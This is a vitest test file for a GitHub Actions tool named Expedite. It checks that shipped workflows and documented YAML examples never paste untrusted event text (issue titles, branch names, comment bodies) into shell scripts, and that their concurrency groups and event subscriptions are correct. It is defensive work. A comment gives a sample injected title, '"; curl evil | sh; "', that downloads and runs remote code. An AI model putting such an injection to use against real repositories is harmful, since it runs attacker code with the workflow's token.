import { readdirSync, readFileSync, existsSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { parseAllDocuments } from "yaml";
import { render } from "./support/githubExpression.js";

// Titles, bodies, comments and branch names are written by whoever opens the issue or pull request. An
// expression such as ${{ github.event.issue.title }} inside a `run:` script is pasted into the shell
// before it runs, so a title like `"; curl evil | sh; "` runs on the runner with the workflow's token.
// Workflows must pass such values through `env:` instead. This holds for the workflows shipped in
// .github/workflows and for every workflow shown in the docs, since people copy those.

const ROOT = fileURLToPath(new URL("../..", import.meta.url));

/** Expressions whose value an outside person controls (GitHub's "untrusted input" list, broadly). */
const UNTRUSTED =
  /\$\{\{[^}]*\b(github\.event\b|github\.head_ref\b|inputs\.|github\.event_path|env\.GITHUB_HEAD_REF|steps\.[^}]*\.outputs\.)/;

interface Script {
  where: string;
  text: string;
}

/** The bodies of every `run:` (and github-script `script:`) in a piece of YAML, parsed or not. */
export function scriptsIn(yamlText: string, where: string): Script[] {
  const found: Script[] = [];
  // Parsed: every `run` and `script` value anywhere in the document.
  try {
    for (const doc of parseAllDocuments(yamlText)) {
      const walk = (node: unknown, path: string) => {
        if (Array.isArray(node)) node.forEach((n, i) => walk(n, `${path}[${i}]`));
        else if (node && typeof node === "object")
          for (const [key, value] of Object.entries(node)) {
            if ((key === "run" || key === "script") && typeof value === "string")
              found.push({ where: `${where} ${path}.${key}`, text: value });
            else walk(value, `${path}.${key}`);
          }
      };
      walk(doc.toJS(), "");
    }
  } catch {
    // A fragment in the docs may not parse on its own; the line scan below still sees it.
  }
  // Line scan: `run: …` on one line, or a block (`run: |`) and the more-indented lines after it.
  const lines = yamlText.split("\n");
  lines.forEach((line, i) => {
    const match = /^(\s*)(?:-\s+)?(run|script):\s*(.*)$/.exec(line);
    if (!match) return;
    const indent = (match[1] ?? "").length;
    const body = [match[3] ?? ""];
    // Only a block scalar (`|`, `>`) or an empty value continues on the next lines.
    if (!/^([|>][-+0-9]*)?\s*(#.*)?$/.test(body[0]!)) {
      found.push({ where: `${where}:${i + 1}`, text: body[0]! });
      return;
    }
    for (let j = i + 1; j < lines.length; j++) {
      const next = lines[j]!;
      if (next.trim() !== "" && next.search(/\S/) <= indent) break;
      body.push(next);
    }
    found.push({ where: `${where}:${i + 1}`, text: body.join("\n") });
  });
  return found;
}

function offending(scripts: Script[]): string[] {
  return scripts
    .filter((s) => UNTRUSTED.test(s.text))
    .map((s) => `${s.where}: ${s.text.trim().split("\n")[0]}`);
}

function workflowFiles(): Array<[string, string]> {
  const dir = join(ROOT, ".github", "workflows");
  return readdirSync(dir)
    .filter((f) => /\.ya?ml$/.test(f))
    .map((f) => [`.github/workflows/${f}`, readFileSync(join(dir, f), "utf8")]);
}

function fencedYaml(): Array<[string, string]> {
  const files = [
    ...readdirSync(join(ROOT, "docs"))
      .filter((f) => f.endsWith(".md"))
      .map((f) => `docs/${f}`),
    "README.md",
  ].filter((f) => existsSync(join(ROOT, f)));
  const blocks: Array<[string, string]> = [];
  for (const file of files) {
    const text = readFileSync(join(ROOT, file), "utf8");
    for (const match of text.matchAll(/^([ \t]*)(```|~~~)[ \t]*ya?ml[^\n]*\n([\s\S]*?)^\1\2[ \t]*$/gm)) {
      const line = text.slice(0, match.index).split("\n").length;
      const indent = match[1] ?? "";
      const body = (match[3] ?? "")
        .split("\n")
        .map((l) => (l.startsWith(indent) ? l.slice(indent.length) : l));
      blocks.push([`${file}:${line + 1}`, body.join("\n")]);
    }
  }
  return blocks;
}

describe("no event text is ever interpolated into a shell script", () => {
  it("the scanner catches the patterns it looks for (a known-bad workflow)", () => {
    const bad = [
      "on: issues",
      "jobs:",
      "  x:",
      "    steps:",
      '      - run: echo "${{ github.event.issue.title }}"',
      "      - run: |",
      "          git checkout ${{ github.head_ref }}",
      "      - uses: actions/github-script@v7",
      "        with:",
      "          script: console.log(`${{ github.event.comment.body }}`)",
      "      - run: echo ok",
      "        env:",
      "          TITLE: ${{ github.event.issue.title }}",
    ].join("\n");
    const found = offending(scriptsIn(bad, "bad.yml"));
    expect(found.join("\n")).toMatch(/issue\.title/);
    expect(found.join("\n")).toMatch(/head_ref/);
    expect(found.join("\n")).toMatch(/comment\.body/);
    // Passing the value through env: is the safe pattern and is not flagged.
    expect(found.every((f) => !f.includes("echo ok"))).toBe(true);
  });

  it("in the workflows shipped in .github/workflows", () => {
    const files = workflowFiles();
    expect(files.length).toBeGreaterThan(0);
    const scripts = files.flatMap(([name, text]) => scriptsIn(text, name));
    expect(scripts.length).toBeGreaterThan(0);
    expect(offending(scripts)).toEqual([]);
  });

  it("in every fenced YAML example of the docs", () => {
    const blocks = fencedYaml();
    expect(blocks.length).toBeGreaterThan(0);
    expect(offending(blocks.flatMap(([where, text]) => scriptsIn(text, where)))).toEqual([]);
  });
});

// The workflows people copy must also behave: one run at a time per object (the issue form fires `opened`
// and `labeled` together; two runs racing on one incident post its board and notices twice), and the
// events Expedite needs must be subscribed. Checked on each documented workflow as written, by evaluating
// its `concurrency.group` expression against the contexts GitHub would give each event.
describe("documented Expedite workflows serialise runs per object and subscribe to the events needed", () => {
  const usesExpedite = (text: string) => /uses:\s*(<owner>\/expedite@|\.\/\s*$)/m.test(text);
  const workflows = (): Array<[string, Record<string, unknown>]> =>
    [...workflowFiles(), ...fencedYaml()]
      .filter(([, text]) => usesExpedite(text) && /^on:/m.test(text))
      .map(([where, text]) => [where, parseAllDocuments(text)[0]!.toJS() as Record<string, unknown>]);

  const context = (eventName: string, event: Record<string, unknown>) => ({
    github: { workflow: "Expedite", event_name: eventName, event },
  });
  const issue = (n: number, comment?: string) => ({
    issue: { number: n },
    ...(comment !== undefined ? { comment: { body: comment } } : {}),
  });
  const pr = (n: number) => ({ pull_request: { number: n } });

  it("finds the workflows to check", () => {
    expect(workflows().length).toBeGreaterThanOrEqual(2);
  });

  it("puts every event about one object in one concurrency group, and different objects apart", () => {
    for (const [where, wf] of workflows()) {
      const concurrency = wf.concurrency as { group?: string; "cancel-in-progress"?: unknown } | undefined;
      expect(concurrency?.group, `${where}: concurrency.group`).toBeTypeOf("string");
      expect(
        concurrency?.["cancel-in-progress"] ?? false,
        `${where}: a running reconcile is never cancelled`,
      ).toBe(false);
      const group = (name: string, event: Record<string, unknown>) =>
        render(concurrency!.group!, context(name, event));
      // The issue form: `opened` and `labeled` of one issue, then comments on it.
      const incident = group("issues", { action: "opened", ...issue(12) });
      expect(group("issues", { action: "labeled", ...issue(12) }), where).toBe(incident);
      expect(group("issue_comment", { action: "created", ...issue(12, "/ack") }), where).toBe(incident);
      expect(group("issues", { action: "opened", ...issue(13) }), where).not.toBe(incident);
      // A pull request's events and comments on it (which GitHub sends as issue_comment).
      const pull = group("pull_request", { action: "synchronize", ...pr(7) });
      expect(group("pull_request", { action: "labeled", ...pr(7) }), where).toBe(pull);
      expect(group("pull_request_review", { action: "submitted", ...pr(7) }), where).toBe(pull);
      expect(
        group("issue_comment", { action: "created", ...issue(7, "/freeze-exception hotfix") }),
        where,
      ).not.toBe(group("issue_comment", { action: "created", ...issue(8, "/freeze-exception hotfix") }));
      expect(pull, where).not.toBe(incident);
      // Merge groups by their commit; the scheduled sweep apart from every object.
      const queue = group("merge_group", { action: "checks_requested", merge_group: { head_sha: "abc" } });
      expect(queue, where).not.toBe(pull);
      const sweep = group("schedule", { schedule: "*/5 * * * *" });
      expect([incident, pull, queue], where).not.toContain(sweep);
    }
  });

  it("subscribes to the event types Expedite acts on", () => {
    const need: Record<string, string[] | "all"> = {
      issues: ["opened", "edited", "closed", "reopened", "labeled", "unlabeled"],
      issue_comment: "all",
      pull_request: ["opened", "synchronize", "reopened", "edited", "labeled", "unlabeled", "closed"],
      merge_group: ["checks_requested"],
      schedule: "all",
    };
    for (const [where, wf] of workflows()) {
      const on = wf.on as Record<string, { types?: string[] } | null>;
      for (const [event, types] of Object.entries(need)) {
        expect(event in on, `${where}: on.${event}`).toBe(true);
        const listed = on[event]?.types;
        if (types !== "all" && listed !== undefined)
          expect(
            types.filter((t) => !listed.includes(t)),
            `${where}: on.${event}.types`,
          ).toEqual([]);
      }
    }
  });
});
